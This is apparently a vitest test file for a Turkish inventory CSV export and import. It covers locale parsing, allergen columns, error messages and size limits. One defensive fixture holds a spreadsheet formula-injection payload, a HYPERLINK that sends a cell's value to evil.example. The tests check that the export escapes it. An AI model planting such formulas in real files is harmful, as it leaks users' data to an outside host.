import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { statementColumns, statementsOf, undeclaredStatements, type Statements } from "~/lib/declarations";
import { INVENTORY_CATEGORIES, INVENTORY_UNITS, inventoryItemSchema, MAX_TEXT_LENGTH } from "./inventory";
import { inventoryToCsv, MAX_CSV_ROWS, parseInventoryCsv } from "./inventory-csv";

const none = undeclaredStatements();
const water: Statements = { declarations: { ...none.declarations, sulphites: "free", milk: "free" }, animal: "no", meatOrFish: "no" };
const flour: Statements = { declarations: { ...none.declarations, gluten: "contains", nuts: "may-contain" }, animal: "no", meatOrFish: "undeclared" };
const items = [
  { id: "5d0c1f7e-6a35-4a43-9f3a-2f1f4a0c9b11", name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water, version: 3 },
  { id: "seed-un", name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour, version: 1 },
];
/** The columns an import gives for what the export wrote: all 18. */
const allOf = (statements: Statements) => statementColumns(statements);

describe("the inventory CSV", () => {
  it("exports a header row, UTF-8 with a byte-order mark, unit keys, prices with a decimal point", () => {
    const csv = inventoryToCsv(items);
    expect(csv.startsWith("\uFEFFname,unit,price,vendor,category,allergen_gluten,allergen_crustaceans,")).toBe(true);
    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish,version,id\r\n");
    expect(csv).toContain('"Şişe su, 0,5 l",bottle,12.50,"Doğuş ""Toptan""",beverage,undeclared,');
    expect(csv).toContain('Un,kg,45.00,Metro,food,contains,undeclared,');
    expect(csv).toContain(",undeclared,no,undeclared,1,seed-un\r\n");
  });

  it("reads back exactly what it wrote", () => {
    const parsed = parseInventoryCsv(inventoryToCsv(items), "tr");
    expect(parsed).toEqual({
      ok: true,
      rows: [
        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2, exportedVersion: 3, exportedId: items[0]!.id },
        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3, exportedVersion: 1, exportedId: "seed-un" },
      ],
    });
  });

  it("reads allergens written in either language, leaves out what a file leaves out, and names a wrong one", () => {
    const parsed = parseInventoryCsv("name,unit,price,vendor,category,allergen_milk,allergen_eggs,diet_animal\nTereyağı,kg,300,Metro,food,İçerir,,Evet\nYumurta,piece,5,Metro,food,does not contain,contains,yes\n", "tr");
    expect(parsed.ok && parsed.rows.map((row) => row.statements)).toEqual([
      { allergen_milk: "contains", diet_animal: "yes" },
      { allergen_milk: "free", allergen_eggs: "contains", diet_animal: "yes" },
    ]);
    expect(parseInventoryCsv("name,unit,price,vendor,category,allergen_milk,diet_meat_or_fish\nTereyağı,kg,300,Metro,food,lots,maybe\n", "en")).toEqual({
      ok: false,
      errors: [{ line: 2, messages: ['inventory.csvStatementInvalid|{"column":"allergen_milk"}', 'inventory.csvFactInvalid|{"column":"diet_meat_or_fish"}'] }],
    });
    // A file made before the allergen columns: its rows state nothing.
    expect(parseInventoryCsv("name,unit,price,vendor,category\nUn,kg,12,Metro,food\n", "en")).toMatchObject({ ok: true, rows: [{ statements: {} }] });
  });

  it("reads semicolons, decimal commas, Turkish category names and columns in any order", () => {
    const parsed = parseInventoryCsv("vendor;name;price;unit;category\nMetro;Un;12,50;kg;Gıda\nMetro;Ayran;7;şişe;İçecek\n", "tr");
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.price, row.category])).toEqual([
      ["Un", 1250, "food"],
      ["Ayran", 700, "beverage"],
    ]);
  });

  it("reads the version each row's item was exported at, none for a row without one, and names one that is not a version", () => {
    const parsed = parseInventoryCsv("Ad;Birim;Fiyat;Tedarikçi;Kategori;Sürüm\nUn;kg;12,50;Metro;Gıda;7\nTuz;kg;8;Metro;Gıda;\n", "tr");
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.exportedVersion])).toEqual([["Un", 7], ["Tuz", undefined]]);
    for (const version of ["0", "1.5", "yedi", "-2", "12345678901"]) {
      expect(parseInventoryCsv(`name,unit,price,vendor,category,version\nUn,kg,12,Metro,food,${version}\n`, "en")).toEqual({
        ok: false,
        errors: [{ line: 2, messages: ['inventory.csvVersionInvalid|{"column":"version"}'] }],
      });
    }
  });

  it("reads the id each row's item was exported with, none for a row without one; names one the site never wrote, and the same id twice", () => {
    const parsed = parseInventoryCsv("name,unit,price,vendor,category,version,id\nUn,kg,12,Metro,food,7,seed-un\nTuz,kg,8,Metro,food,,\n", "en");
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.exportedId])).toEqual([["Un", "seed-un"], ["Tuz", undefined]]);
    for (const id of ["un tuz", "=1+1", "x".repeat(101), "Un;Metro"]) {
      expect(parseInventoryCsv(`name,unit,price,vendor,category,id\nUn,kg,12,Metro,food,"${id}"\n`, "en")).toEqual({
        ok: false,
        errors: [{ line: 2, messages: ['inventory.csvIdInvalid|{"column":"id"}'] }],
      });
    }
    expect(parseInventoryCsv("name,unit,price,vendor,category,id\nUn,kg,12,Metro,food,seed-un\nUn kepeği,kg,9,Metro,food,seed-un\n", "en")).toEqual({
      ok: false,
      errors: [{ line: 3, messages: ['inventory.csvDuplicateId|{"line":2,"column":"id"}'] }],
    });
  });

  it("reads the columns' names in Turkish", () => {
    const parsed = parseInventoryCsv("Ad;Birim;Fiyat;Tedarikçi;Kategori\nUn;kg;12,50;Metro;Gıda\n", "tr");
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.unit, row.price, row.vendor, row.category])).toEqual([["Un", "kg", 1250, "Metro", "food"]]);
  });

  it("reads tabs, as a spreadsheet's 'Unicode text' separates its columns", () => {
    const parsed = parseInventoryCsv("name\tunit\tprice\tvendor\tcategory\nUn, tam buğday\tkg\t12,50\tMetro\tGıda\n", "tr");
    expect(parsed.ok && parsed.rows.map((row) => [row.name, row.price, row.vendor])).toEqual([["Un, tam buğday", 1250, "Metro"]]);
  });

  it("reads a unit in either language or an old spelling, and a price as the importing page writes it", () => {
    const csv = "name,unit,price,vendor,category\nUn,gr,1.500,Metro,food\nSüt,LT,12.50,Metro,food\nAyran,adet,7,Metro,beverage\nTuz,pack,1500,Metro,food\nÇay,Paket,\"1.250,50\",Metro,beverage\nSu,bottles,5,Metro,beverage\n";
    const parsed = parseInventoryCsv(csv, "tr");
    expect(parsed.ok && parsed.rows.map((row) => [row.unit, row.price])).toEqual([
      ["g", 150_000],
      ["l", 1_250],
      ["piece", 700],
      ["pack", 150_000],
      ["pack", 125_050],
      ["bottle", 500],
    ]);
    // 1.500 on an English page: 1500 written the Turkish way, or three decimals? Refused, not guessed.
    expect(parseInventoryCsv("name,unit,price,vendor,category\nUn,kg,1.500,Metro,food\n", "en")).toEqual({ ok: false, errors: [{ line: 2, messages: ["backOffice.amountAmbiguous"] }] });
  });

  it("names every bad row by its line, with every reason, and returns no rows", () => {
    const parsed = parseInventoryCsv("name,unit,price,vendor,category\nUn,kg,12.50,Metro,food\n,kg,-3,Metro,food\nTuz,ton,5,Metro,food\nun,kg,1,METRO,food\n", "tr");
    expect(parsed).toEqual({
      ok: false,
      errors: [
        { line: 3, messages: ["inventory.nameRequired", "inventory.priceInvalid"] },
        { line: 4, messages: ['inventory.csvUnitInvalid|{"unit":"ton","units":"kg, g, l, ml, adet, paket, kutu, şişe veya poşet"}'] },
        { line: 5, messages: ['inventory.csvDuplicate|{"line":2}'] },
      ],
    });
  });

  it("names the units and categories an item takes when a row's is not one of them, in the page's language", () => {
    // A slice is a recipe's unit: nobody buys by the slice.
    const csv = "name,unit,price,vendor,category\nEkmek,dilim,5,Fırın,ekmek\n";
    expect(parseInventoryCsv(csv, "en")).toEqual({
      ok: false,
      errors: [
        {
          line: 2,
          messages: [
            'inventory.csvUnitInvalid|{"unit":"dilim","units":"kg, g, l, ml, piece, pack, box, bottle, or bag"}',
            'inventory.csvCategoryInvalid|{"category":"ekmek","categories":"Food, Beverage, or Other"}',
          ],
        },
      ],
    });
    expect(parseInventoryCsv(csv, "tr")).toMatchObject({ errors: [{ messages: [expect.anything(), 'inventory.csvCategoryInvalid|{"category":"ekmek","categories":"Gıda, İçecek veya Diğer"}'] }] });
  });

  it("refuses a file without the columns, without rows, or with more than 10,000 rows", () => {
    expect(parseInventoryCsv("name,unit\nUn,kg\n", "tr")).toEqual({ ok: false, errors: [{ line: 1, messages: ['inventory.csvMissingColumns|{"columns":"price, vendor, category"}'] }] });
    expect(parseInventoryCsv("name,unit,price,vendor,category\n", "tr")).toMatchObject({ ok: false, errors: [{ messages: ["inventory.csvEmpty"] }] });
    const many = "name,unit,price,vendor,category\n" + Array.from({ length: MAX_CSV_ROWS + 1 }, (_, i) => `Item ${i},kg,1,Metro,food`).join("\n");
    expect(parseInventoryCsv(many, "tr")).toEqual({ ok: false, errors: [{ line: 0, messages: ["inventory.csvTooManyRows"] }] });
  });

  it("says in the page's words where a quotation mark is wrong, not in the parser's", () => {
    const header = "name,unit,price,vendor,category\n";
    expect(parseInventoryCsv(`${header}Un,kg,1,Metro,food\n"Un,kg`, "tr")).toEqual({ ok: false, errors: [{ line: 0, messages: ["inventory.csvQuoteNotClosed"] }] });
    expect(parseInventoryCsv(`${header}Un,kg,1,Metro,food\nSu "Pınar",şişe,1,Metro,food\n`, "tr")).toEqual({ ok: false, errors: [{ line: 3, messages: ["inventory.csvQuoteMisplaced"] }] });
    expect(parseInventoryCsv(`${header}"Su" Pınar,şişe,1,Metro,food\n`, "tr")).toEqual({ ok: false, errors: [{ line: 2, messages: ["inventory.csvQuoteMisplaced"] }] });
    // Written as the message says: the whole field in quotation marks, its own written twice.
    expect(parseInventoryCsv(`${header}"Su ""Pınar""",şişe,1,Metro,food\n`, "tr")).toMatchObject({ ok: true, rows: [{ name: 'Su "Pınar"' }] });
  });

  it("refuses a line with more values than the header has columns, as a price like 12,5 left out of quotation marks: no value is dropped", () => {
    const priceLast = "name,unit,vendor,category,price\n";
    const extra = (key: string, values: number) => ({ ok: false, errors: [{ line: 2, messages: [`inventory.csvExtraValues${key}|{"values":${values},"columns":5}`] }] });
    // Read before: 12 ₺ and 1.234 ₺, the rest of the price dropped without a word.
    expect(parseInventoryCsv(`${priceLast}Un,kg,Metro,food,12,5\n`, "tr")).toEqual(extra("Comma", 6));
    expect(parseInventoryCsv(`${priceLast}Un,kg,Metro,food,1.234,50\n`, "tr")).toEqual(extra("Comma", 6));
    expect(parseInventoryCsv(`${priceLast}Un,kg,Metro,food,"1,234.50"\nSu,l,Metro,food,1,234.50\n`, "en")).toEqual({ ok: false, errors: [{ line: 3, messages: ['inventory.csvExtraValuesComma|{"values":6,"columns":5}'] }] });
    // In the export's order the rest of the line was read a column off, and blamed on the category.
    expect(parseInventoryCsv("name,unit,price,vendor,category\nUn,kg,12,5,Metro,food\n", "tr")).toEqual(extra("Comma", 6));
    expect(parseInventoryCsv("ad;birim;fiyat;tedarikçi;kategori\nUn;kg;12,5;Metro;gıda;fazla\n", "tr")).toEqual(extra("Semicolon", 6));
    expect(parseInventoryCsv("name\tunit\tprice\tvendor\tcategory\nUn\tkg\t12\tMetro\tfood\tx\ty\n", "en")).toEqual(extra("Tab", 7));
    // Written as the message says, it is the price meant.
    expect(parseInventoryCsv(`${priceLast}Un,kg,Metro,food,"12,5"\n`, "tr")).toMatchObject({ ok: true, rows: [{ price: 1250 }] });
    // Empty values past the header's columns hold nothing to lose (separators a spreadsheet left at the end).
    expect(parseInventoryCsv(`${priceLast}Un,kg,Metro,food,12,,\n`, "tr")).toMatchObject({ ok: true, rows: [{ price: 1200 }] });
  });

  it("refuses a line of more than 100 columns before parsing it, the header's or a row's, and takes 100", () => {
    const header = "name,unit,price,vendor,category";
    const columns = (count: number) => `${header}${",extra".repeat(count - 5)}`;
    expect(parseInventoryCsv(`${columns(100)}\nUn,kg,1,Metro,food\n`, "tr")).toMatchObject({ ok: true, rows: [{ name: "Un" }] });
    expect(parseInventoryCsv(`${columns(101)}\nUn,kg,1,Metro,food\n`, "tr")).toEqual({ ok: false, errors: [{ line: 1, messages: ["inventory.csvTooManyColumns"] }] });
    expect(parseInventoryCsv(`${header}\nUn,kg,1,Metro,food\nUn;kg;1;Metro;food${",".repeat(100)}\n`, "tr")).toEqual({ ok: false, errors: [{ line: 3, messages: ["inventory.csvTooManyColumns"] }] });
    // Lines ended by a lone carriage return, as 'CSV (Macintosh)' saves them, are lines too.
    const rows = Array.from({ length: 50 }, (_, i) => `Un ${i},kg,1,Metro,food`);
    expect(parseInventoryCsv([header, ...rows].join("\r"), "tr")).toMatchObject({ ok: true, rows: { length: 50 } });
    expect(parseInventoryCsv([header, ...rows, `Un;kg;1;Metro;food${",".repeat(100)}`].join("\r"), "tr")).toEqual({ ok: false, errors: [{ line: 52, messages: ["inventory.csvTooManyColumns"] }] });
    // A file of 5 MB, all commas on one line: 5 million fields the parser never sees.
    const commas = `${header}${",".repeat(5 * 1024 * 1024 - 100)}\nUn,kg,1,Metro,food\n`;
    expect(parseInventoryCsv(commas, "tr")).toEqual({ ok: false, errors: [{ line: 1, messages: ["inventory.csvTooManyColumns"] }] });
  });

  describe("opened in a spreadsheet program", () => {
    const formula = { id: "formula", name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none, version: 1 };
    /** The cells of a CSV text as a spreadsheet program reads them. */
    const cells = (csv: string) => (parse(csv.slice(1)) as string[][]).slice(1);

    it("gets no cell that starts a formula: such a text starts with an apostrophe", () => {
      const [row] = cells(inventoryToCsv([formula]));
      expect(row!.slice(0, 5)).toEqual([`'${formula.name}`, "kg", "1.00", "'@Acc Vendor", "food"]);
      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it("reads back the very text that was exported, apostrophes of its own included", () => {
      const names = [formula, { ...formula, id: "kara", name: "'=1+1", vendor: "'Kara' Ltd" }, { ...formula, id: "-sogan", name: "-Soğan", vendor: "''+Metro" }, { ...formula, id: "cay", name: "+90 Çay", vendor: "O'Neil" }];
      const parsed = parseInventoryCsv(inventoryToCsv(names), "tr");
      expect(parsed.ok && parsed.rows.map((row) => [row.name, row.vendor])).toEqual(names.map((item) => [item.name, item.vendor]));
      expect(cells(inventoryToCsv(names)).map((row) => [row[0], row[3]])).toEqual([
        [`'${formula.name}`, "'@Acc Vendor"],
        ["''=1+1", "'Kara' Ltd"],
        ["'-Soğan", "'''+Metro"],
        ["'+90 Çay", "O'Neil"],
      ]);
    });

    it("export → import → export is byte for byte the same, whatever the names and vendors", () => {
      // Texts a person can save (the form's rules), often starting with what a formula starts with.
      const start = fc.constantFrom("", "'", "''", "=", "+", "-", "@", "'=", "'-", "''@", " ");
      const text = fc
        .tuple(start, fc.string({ maxLength: 20 }), fc.constantFrom("", "'", "=", ",", '"', ";"))
        .map((parts) => parts.join("").trim())
        .filter((value) => inventoryItemSchema("tr").shape.name.safeParse(value).success && value.length <= MAX_TEXT_LENGTH);
      const item = fc.record({
        name: text,
        unit: fc.constantFrom(...INVENTORY_UNITS),
        priceKurus: fc.integer({ min: 0, max: 1_000_000 }),
        vendor: text,
        category: fc.constantFrom(...INVENTORY_CATEGORIES),
        statements: fc.constantFrom(none, water, flour),
        version: fc.integer({ min: 1, max: 999_999_999 }),
        id: fc.oneof(fc.uuid(), fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/)),
      });
      const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` }).filter((rows) => new Set(rows.map((row) => row.id)).size === rows.length);
      fc.assert(
        fc.property(items, (rows) => {
          const csv = inventoryToCsv(rows);
          const parsed = parseInventoryCsv(csv, "tr");
          // Two names the import folds into one (ı and i, say) are refused as duplicates, never changed.
          if (!parsed.ok) return;
          expect(parsed.rows.map(({ name, vendor }) => ({ name, vendor }))).toEqual(rows.map(({ name, vendor }) => ({ name, vendor })));
          expect(
            inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>), version: row.exportedVersion ?? 0, id: row.exportedId ?? "" }))),
          ).toBe(csv);
          for (const row of cells(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }),
        { numRuns: 500 },
      );
    });
  });
});
